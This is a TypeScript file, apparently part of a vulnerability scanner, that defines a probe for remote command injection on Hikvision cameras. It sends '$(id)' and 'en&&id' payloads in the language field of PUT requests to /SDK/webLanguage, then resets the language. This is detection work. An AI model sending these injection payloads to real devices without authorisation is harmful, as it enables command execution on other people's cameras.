import { type Proof, get, proof, request } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'hikvision-rce',
    [
      request('PUT', '/SDK/webLanguage', '<language>$(id)</language>'),
      request('PUT', '/SDK/webLanguage', '<language>en&&id</language>'),
    ],
    [
      get('/SDK/webLanguage'),
      // So the page of the camera itself sets its language.
      request('PUT', '/SDK/webLanguage', '<?xml version="1.0" encoding="UTF-8"?><language>en</language>'),
    ],
  ),
]
